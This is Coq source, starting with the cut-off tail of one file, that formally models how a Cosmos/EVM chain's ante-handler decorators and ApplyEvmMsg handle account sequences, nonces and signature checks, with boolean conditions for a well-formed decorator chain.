  map (fun o => (o_tx o, o_res o, state_of accts (o_seqs o))) os.

Definition violates (c : case) : bool :=
  negb (Pb (fst c) recover_oracle accts init (gtrace (concat (snd c)))).
