(** C07 — types of the facts re-extracted from /repo (coq/Gen/C07Facts.v is generated) and the
    conditions the model relies on. No proofs. *)
From Coq Require Import List Bool.
Import ListNotations.
Require Import Nib.C07.Model.

(** which comparison of tx nonce against account sequence makes the increment decorator reject *)
Inductive inc_cmp := CmpNeqRejects | CmpLtRejects | CmpGtRejects | CmpUnknown.

(** how getAccountWithoutBalance fills the nonce of the statedb.Account it returns *)
Inductive loader_shape :=
| LoadSeqAlways    (* Nonce is GetSequence() of the auth account looked up, on every path *)
| LoadSeqEthOnly   (* … only of the value the EthAccountI type assertion yields *)
| LoadUnknown.

Definition loader_of (sh : loader_shape) : option loader :=
  match sh with LoadSeqAlways => Some load_std | LoadSeqEthOnly => Some load_eth_only | LoadUnknown => None end.

(** the StateDB sees the stored sequence of every account, whatever its auth type *)
Definition loader_faithful (l : loader) : Prop := forall k q, l k q = q.

(** what ApplyEvmMsg does to the sender's nonce before the EVM runs *)
Inductive pre_shape :=
| PreResetAlways           (* SetNonce(From(), Nonce()) on every path *)
| PreResetCreateSuccCall   (* To()==nil: SetNonce(From(), Nonce()); otherwise SetNonce(From(), Nonce()+1) *)
| PreUnknown.

Definition pre_of (sh : pre_shape) : option prefn :=
  match sh with PreResetAlways => Some pre_reset_always | PreResetCreateSuccCall => Some pre_std | PreUnknown => None end.

(** a contract creation runs with the nonce of its transaction, whatever the account sequence is by then *)
Definition pre_create_resets (p : prefn) : Prop := forall cur n, p true cur n = n.

Record facts := {
  f_loader : loader_shape;
  f_inc_check : inc_cmp;
  f_inc_reads_account_sequence : bool;
  f_inc_sets_plus_one : bool;
  f_sig_signer_of_this_chain : bool;          (* SigVerify recovers with a signer built from the keeper's chain id *)
  f_cantransfer_signer_of_this_chain : bool;  (* CanTransfer does, and rejects on a recovery error *)
  f_sig_rejects_on_error : bool;
  f_sig_sets_from : bool;
  f_msg_london_signer_of_this_chain : bool;
  f_pre : pre_shape;
  f_bracket_after : bool;
  f_event_create_address_from_nonce : bool
}.

Definition facts_ok (f : facts) : bool :=
  match f_loader f with LoadSeqAlways => true | _ => false end &&
  match f_inc_check f with CmpNeqRejects => true | _ => false end &&
  f_inc_reads_account_sequence f && f_inc_sets_plus_one f &&
  (f_sig_signer_of_this_chain f || f_cantransfer_signer_of_this_chain f) && f_sig_rejects_on_error f && f_sig_sets_from f &&
  f_msg_london_signer_of_this_chain f && match f_pre f with PreUnknown => false | _ => true end && f_bracket_after f &&
  f_event_create_address_from_nonce f.

(** the part of a decorator chain the nonce path depends on *)
Definition relevant (d : dec) : bool :=
  match d with DValidateBasic | DSigVerify | DVerifyEthAcc | DIncrementSeq => true | _ => false end.

Definition dec_eqb (a b : dec) : bool :=
  match a, b with
  | DSetUpContext, DSetUpContext | DMempoolGasPrice, DMempoolGasPrice | DValidateBasic, DValidateBasic
  | DSigVerify, DSigVerify | DVerifyEthAcc, DVerifyEthAcc | DCanTransfer, DCanTransfer
  | DGasConsume, DGasConsume | DIncrementSeq, DIncrementSeq | DGasWanted, DGasWanted
  | DEmitEvent, DEmitEvent | DOther, DOther => true
  | _, _ => false
  end.

Fixpoint decs_eqb (a b : list dec) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => dec_eqb x y && decs_eqb a' b'
  | _, _ => false
  end.

(** well-formed chain: exactly ValidateBasic, SigVerify, VerifyEthAcc, IncrementSeq in this order
    among the decorators that matter; anything else may be added, removed or moved *)
Definition chain_wf (ds : list dec) : bool :=
  decs_eqb (filter relevant ds) [DValidateBasic; DSigVerify; DVerifyEthAcc; DIncrementSeq].
